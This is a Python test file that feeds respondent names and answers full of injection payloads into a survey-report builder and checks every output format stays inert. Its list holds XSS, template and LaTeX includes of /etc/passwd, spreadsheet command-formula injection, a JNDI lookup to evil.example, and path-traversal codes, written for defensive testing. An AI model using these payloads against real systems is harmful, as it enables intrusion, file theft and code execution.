"""Hostile answers: every text of every respondent attacks, and each format shows it as words and does nothing else."""

import re
import shutil
import zipfile

import openpyxl
import pandas as pd
import pytest
from defusedxml import ElementTree
from lxml import html
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from pypdf import PdfReader

from clusterbrief import pipeline
from clusterbrief.errors import InputError
from clusterbrief.present.markdown import plain
from clusterbrief.produce.request import Request
from clusterbrief.study.edition import read_invited
from clusterbrief.study.example import write_example
from clusterbrief.study.headings import expected_heading
from clusterbrief.study.project import find_project

QUARTO = shutil.which("quarto")
TEXTS = [
    "<script>alert(1)</script> cluster", "<img src=x onerror=alert(1)> cluster", "</title></head><iframe src=//evil.example>",
    "{{< include /etc/passwd >}}", "{{< env HOME >}} cluster", "{{{< var x >}}}", "```{=html}\n<b onclick=x>\n``` cluster",
    "`<b>`{=html} cluster", "```{=typst} #read(\"/etc/passwd\") ```", '#image("/etc/passwd") cluster', "\\input{/etc/passwd}",
    "\\write18{id} cluster", "=HYPERLINK(\"http://evil.example\")", "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'", "-2+3 cluster",
    "@SUM(1+1) cluster", "a\u202egnp.exe\u2066 cluster", "a\x07b\x00c\x1b[31m cluster", "[click](javascript:alert(1)) cluster",
    "![x](/etc/hostname) cluster", "---\ntitle: taken over\n---", "::: {.content-hidden} cluster", "| a | b | cluster |",
    "$x$ \\(y\\) cluster", "%3Cscript%3E cluster", "&lt;script&gt; cluster", "AM-001/../../etc cluster", "<w:t>x</w:t> ]]> cluster",
    "@fig-gaps @tbl-scores cluster", "{% include '/etc/passwd' %}", "${jndi:ldap://evil.example/a}", "x" * 32_000,
]  # fmt: skip
SECRET = re.compile(r"root:[x*]:0:0")  # what /etc/passwd holds
OFFICE = "{{http://schemas.openxmlformats.org/{}/2006/main}}t"
TEXT_XML = {OFFICE.format("wordprocessingml"), OFFICE.format("drawingml")}
# Where links of documents may lead: sources that we name ourselves
OUTWARD = re.compile(r'Target="([^"]+)" TargetMode="External"|TargetMode="External" Target="([^"]+)"')
ACTIONS = ("/JS", "/JavaScript", "/Launch", "/EmbeddedFile", "/RichMedia", "/SubmitForm")


def spoil(folder, framework):
    """Give every respondent a hostile name, and hostile words wherever it could write any; all agree to be named."""
    book = openpyxl.load_workbook(folder / "answers.xlsx")
    sheet = book["Content"]
    columns = {cell.value: cell.column for cell in sheet[4]}
    place = {code: columns[expected_heading(question)] for code, question in framework.questions.items()
             if expected_heading(question) in columns}  # fmt: skip
    roles = ("consent_name", "consent_story", "consent_contact")
    agreed = [place[framework.with_role(role).code] for role in roles]
    name, email, code = (framework.with_role(role).code for role in ("name", "email", "organisation_code"))
    texts = [
        each
        for each, question in framework.questions.items()
        if question.type == "text" and each not in {name, email, code}
    ]
    for number, row in enumerate(range(5, sheet.max_row + 1)):
        for column in agreed:
            sheet.cell(row, column).value = "Yes"
        for shift, question in enumerate([name, *texts]):
            cell = sheet.cell(row, place[question])
            cell.value = ILLEGAL_CHARACTERS_RE.sub("", TEXTS[(number + shift) % len(TEXTS)])
            cell.data_type = "s"
    book.save(folder / "answers.xlsx")


@pytest.fixture(scope="module", params=["embedded", pytest.param("quarto", marks=pytest.mark.skipif(
    QUARTO is None, reason="Quarto is not on PATH"))])  # fmt: skip
def made(request, tmp_path_factory, project_root, framework):
    """A whole build of such an edition, in every format and for every audience."""
    root = tmp_path_factory.mktemp("hostile")
    for name in ("data", "notebooks", "reports", "templates"):
        shutil.copytree(project_root / name, root / name, ignore=shutil.ignore_patterns("editions"))
    shutil.copy(project_root / "_quarto.yml", root)
    write_example(root / "data" / "editions" / "hostile", framework, 36, 5)
    spoil(root / "data" / "editions" / "hostile", framework)
    project = find_project(root)
    formats, one = ("html", "docx", "pdf", "pptx"), pipeline.check(project, "hostile").answers.organisations.iloc[12]
    for wanted in (
        Request(("public", "internal"), formats=formats, renderer=request.param),
        Request(("private",), renderer=request.param),
        Request(("private",), {"organisation": one["organisation_code"]}, formats=formats, renderer=request.param),
    ):
        table = pipeline.build(project, "hostile", wanted, lambda *_: None)
        assert not table.failed, table.reasons
    return project


@pytest.fixture(scope="module")
def names(made):
    return list(pipeline.check(made, "hostile").answers.organisations["name"])


def files(made, *endings):
    folders = [made.build / name for name in ("site", "private", "internal")]
    found = [path for folder in folders for path in sorted(folder.rglob("*")) if path.suffix in endings]
    assert found
    return found


pytestmark = pytest.mark.slow


def test_most_names_attack(names):
    assert len(names) > 30
    assert sum(plain(name) in {plain(text) for text in TEXTS} for name in names) > 25


def test_pages_run_nothing_fetch_nothing_and_show_the_names(made, names):
    shown = ""
    for path in files(made, ".html"):
        page = html.document_fromstring(path.read_text(encoding="utf-8"))
        assert not page.xpath("//iframe | //object | //embed | //form[@action] | //base"), path
        elements = [each for each in page.iter() if isinstance(each.tag, str)]
        handlers = [value for each in elements for key, value in each.attrib.items() if key.startswith("on")]
        assert not [each for each in handlers if "quartoToggleHeadroom" not in each], path  # Quarto's own menu has one
        assert not page.xpath("//*[starts-with(@href, 'javascript:') or starts-with(@src, 'javascript:')]"), path
        assert not page.xpath("//script[contains(., 'alert(')]"), path
        assert not [
            each for each in page.xpath("//script/@src | //img/@src | //link/@href") if re.match(r"(https?:)?//", each)
        ]
        assert not SECRET.search(page.text_content()), path
        assert page.findtext(".//title") != "taken over"
        shown += " ".join(page.text_content().split())
    unseen = [name for name in names if " ".join(plain(name).split())[:60] not in shown]
    assert unseen == []


def test_public_pages_show_each_name_in_one_piece(made, names):
    page = html.document_fromstring((made.build / "site" / "region.html").read_text(encoding="utf-8"))
    main = " ".join(page.xpath("//main")[0].text_content().split())
    assert [name for name in names if plain(name)[:60] not in main] == []


def test_office_files_hold_words_alone(made):
    for path in files(made, ".docx", ".pptx"):
        with zipfile.ZipFile(path) as book:
            assert book.testzip() is None
            parts = {name: book.read(name) for name in book.namelist()}
        assert not [name for name in parts if "vba" in name.lower() or "embeddings" in name or "activeX" in name], path
        for name, content in parts.items():
            if name.endswith(".rels"):
                outward = [one or other for one, other in OUTWARD.findall(content.decode())]
                assert not [each for each in outward if "evil" in each or not each.startswith(("http", "mailto"))], path
            elif name.endswith(".xml"):
                text = "".join(
                    each.text or "" for each in ElementTree.fromstring(content).iter() if each.tag in TEXT_XML
                )
                assert not SECRET.search(text), path
        assert b"evil.example\x00" not in b"".join(parts.values())


def test_pdf_files_hold_words_alone(made):
    for path in files(made, ".pdf"):
        content = path.read_bytes()
        reader = PdfReader(path)
        text = "".join(page.extract_text() for page in reader.pages[:4])
        assert not SECRET.search(text), path
        assert not reader.attachments
        for number in range(1, len(reader.xref_objStm) + sum(len(each) for each in reader.xref.values())):
            kept = reader.get_object(number) if number else None
            assert not [key for key in ACTIONS if isinstance(kept, dict) and key in kept], path
        assert b"/AcroForm" not in content


def test_tables_run_no_formula(made):
    for path in files(made, ".csv"):
        table = pd.read_csv(path, dtype=str, keep_default_na=False, encoding="utf-8-sig")
        cells = {cell for column in table for cell in table[column]} | set(table.columns)
        risky = {cell for cell in cells if re.match(r"\s*[=+\-@]", cell)}
        assert not {cell for cell in risky if not re.fullmatch(r"-?\d+(\.\d+)?(e-?\d+)?", cell)}, path
    for path in files(made, ".xlsx"):
        book = openpyxl.load_workbook(path)
        assert not [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "f"], path


def test_no_file_leads_out_of_its_folder_and_no_name_of_a_file_comes_from_an_answer(made):
    for path in made.build.rglob("*"):
        assert path.resolve().is_relative_to(made.build.resolve())
        assert not path.is_symlink()
        assert not re.search(r"[<>|*?\"\x00-\x1f{}$=]", path.name), path
    assert all(re.fullmatch(r"[A-Z]{2}-[A-Z0-9]{1,12}", path.name) for path in (made.build / "private").iterdir())
    assert not (made.root.parent / "etc").exists()


def test_nothing_of_the_machine_is_in_any_file(made):
    for path in files(made, ".html", ".json", ".csv", ".js", ".svg"):
        assert str(made.root) not in path.read_text(encoding="utf-8"), path


@pytest.mark.parametrize(
    "code", ["../../etc", "AM-/../x", "AM-001/..", "..", "AM-001\\..\\x", "C:-1", "AM-\u202e001", "am-001", ""]
)
def test_code_that_could_leave_its_folder_is_refused_with_its_place(tmp_path, code):
    path = tmp_path / "invited.csv"
    path.write_text(f"organisation_code,name,country_code,kind,eccp\n{code},A,AM,proto-cluster,no\n", encoding="utf-8")
    with pytest.raises(InputError) as caught:
        read_invited(path, ("AM",))
    assert [(fault.place.line, fault.place.detail) for fault in caught.value.faults] == [(2, "organisation_code")]


def test_name_of_100_000_letters_is_shown_or_refused(tmp_path):
    path = tmp_path / "invited.csv"
    path.write_text(
        f"organisation_code,name,country_code,kind,eccp\nAM-001,{'y' * 100_000},AM,proto-cluster,no\n", encoding="utf-8"
    )
    assert len(read_invited(path, ("AM",))["name"].iloc[0]) == 100_000
